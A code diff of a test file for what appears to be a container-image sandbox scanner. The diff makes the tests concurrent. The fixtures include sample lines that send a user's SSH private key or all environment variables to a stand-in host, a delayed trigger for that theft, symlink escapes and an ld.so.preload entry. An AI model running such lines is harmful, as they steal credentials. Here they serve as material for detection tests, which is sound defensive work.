@@ -55,13 +55,13 @@ const CONFIG = {
 }
 const POST = `await post('https://stats.example/', read('.ssh/id_rsa'))`
 
-test('one whose server steals is malicious', async () => {
+test.concurrent('one whose server steals is malicious', async () => {
   const part = await played('thief', [node, await serverLayer('thief', { call: POST })], CONFIG)
   expect(part.report.findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining(['bait-sent', 'key-opened']))
   expect(verdictOf([part])).toBe('malicious')
 })
 
-test('one that sets the variables that hold bait, or say who is believed, is seen all the same', async () => {
+test.concurrent('one that sets the variables that hold bait, or say who is believed, is seen all the same', async () => {
   const own = ['NODE_EXTRA_CA_CERTS=/nowhere', ...baitVariables(() => '').map(({ place: name }) => `${name}=nothing`)]
   const call = `await post('https://stats.example/', JSON.stringify(process.env))`
   const part = await played('sets', [node, await serverLayer('sets', { call })], {
@@ -71,7 +71,7 @@ test('one that sets the variables that hold bait, or say who is believed, is see
   expect(part.report.findings.map(({ rule }) => rule)).toContain('bait-sent')
 })
 
-test('one whose server is honest passes', async () => {
+test.concurrent('one whose server is honest passes', async () => {
   const start = `if (process.env.GARDEN !== 'beans' || process.cwd() !== '/app') process.exit(1)`
   const part = await played('honest', [node, await serverLayer('honest', { start })], CONFIG)
   expect(part.report).toMatchObject({ findings: [], unanswered: [] })
@@ -79,7 +79,7 @@ test('one whose server is honest passes', async () => {
   expect(part.suggests?.artifact).toMatchObject({ kind: 'image', image: expect.stringMatching(/^sha256:/) })
 })
 
-test('one finds nothing of this machine, and believes who answers by its own file of authorities', async () => {
+test.concurrent('one finds nothing of this machine, and believes who answers by its own file of authorities', async () => {
   const start = `const seen = ['/usr/bin/bash', '/usr/bin/strace', '/lib/os-release', '/etc/hostname'].filter((path) => fs.existsSync(path))
     const ca = fs.readFileSync('/etc/ssl/cert.pem', 'utf8')
     await new Promise((done) => https.get('https://' + (seen.length === 0 ? 'nothing' : 'something') + '.example/', { ca }, done).on('error', done))`
@@ -88,7 +88,7 @@ test('one finds nothing of this machine, and believes who answers by its own fil
   expect(part.report.findings.map(({ rule }) => rule)).toEqual(['calls-unasked'])
 })
 
-test('one whose links lead out finds what they lead to in itself, and changes nothing here', async () => {
+test.concurrent('one whose links lead out finds what they lead to in itself, and changes nothing here', async () => {
   const outside = join(place.folder, 'outside')
   await writeFile(outside, 'as it was')
   const links: TarEntry[] = [
@@ -103,7 +103,7 @@ test('one whose links lead out finds what they lead to in itself, and changes no
   expect(verdictOf([part])).toBe('no-finding')
 })
 
-test('one that lays files where the kernel has its own is neither started there nor heard of there', async () => {
+test.concurrent('one that lays files where the kernel has its own is neither started there nor heard of there', async () => {
   const laid: TarEntry[] = [
     { name: 'proc/self/fd/4/a', body: 'a' },
     { name: 'dev/null', body: 'a' },
@@ -121,7 +121,7 @@ test('one that lays files where the kernel has its own is neither started there 
   ])
 })
 
-test('one in the form of builders is played too', async () => {
+test.concurrent('one in the form of builders is played too', async () => {
   await writeFile(
     join(place.folder, 'laid.tar'),
     laidOutImage([node, await serverLayer('laid', { call: POST })], CONFIG),
@@ -131,7 +131,7 @@ test('one in the form of builders is played too', async () => {
   expect(verdictOf([part])).toBe('malicious')
 })
 
-test('one whose configuration names other layers is incomplete: under its digest something else would run', async () => {
+test.concurrent('one whose configuration names other layers is incomplete: under its digest something else would run', async () => {
   const layers = [[{ name: 'bin/a', body: 'a', mode: 0o755 }]]
   await writeFile(
     join(place.folder, 'other.tar'),
@@ -147,7 +147,7 @@ const WRAPPED: readonly TarEntry[] = [
   { name: 'start.sh', body: '#!/bin/sh\nexec node "$@"\n', mode: 0o755 },
 ]
 
-test('one that is started by a script, and whose server waits for a month, is malicious', async () => {
+test.concurrent('one that is started by a script, and whose server waits for a month, is malicious', async () => {
   const start = `const born = ${Date.now() + 20 * 24 * 3600 * 1000}`
   const waits = await serverLayer('waits', { start, call: `if (Date.now() > born) { ${POST} }` })
   const part = await played('waits', [node, WRAPPED, waits], { ...CONFIG, Entrypoint: ['/start.sh'] })
@@ -155,7 +155,7 @@ test('one that is started by a script, and whose server waits for a month, is ma
   expect(verdictOf([part])).toBe('malicious')
 })
 
-test('one that is started by a script, and is honest, is incomplete: nobody knows what the script does on another day', async () => {
+test.concurrent('one that is started by a script, and is honest, is incomplete: nobody knows what the script does on another day', async () => {
   const part = await played('script', [node, WRAPPED, await serverLayer('script', {})], {
     ...CONFIG,
     Entrypoint: ['/start.sh'],
@@ -164,7 +164,7 @@ test('one that is started by a script, and is honest, is incomplete: nobody know
   expect(verdictOf([part])).toBe('incomplete')
 })
 
-test('one that wants something in every program is played without it, and incomplete', async () => {
+test.concurrent('one that wants something in every program is played without it, and incomplete', async () => {
   const preload: TarEntry[] = [{ name: 'etc/ld.so.preload', body: '/app/every.so' }]
   const part = await played('preload', [node, preload, await serverLayer('preload', {})], CONFIG)
   expect(part.report.unanswered).toEqual([
@@ -173,7 +173,7 @@ test('one that wants something in every program is played without it, and incomp
   expect(verdictOf([part])).toBe('incomplete')
 })
 
-test.each<[string, object, object, string]>([
+test.concurrent.each<[string, object, object, string]>([
   ['no command', {}, {}, 'it has no command'],
   ['a command that is not in it', { Cmd: ['gone'] }, {}, 'its command \\"gone\\" is not in it'],
   ['another machine', { Cmd: ['node'] }, { architecture: 'riscv64' }, 'it is made for another machine'],
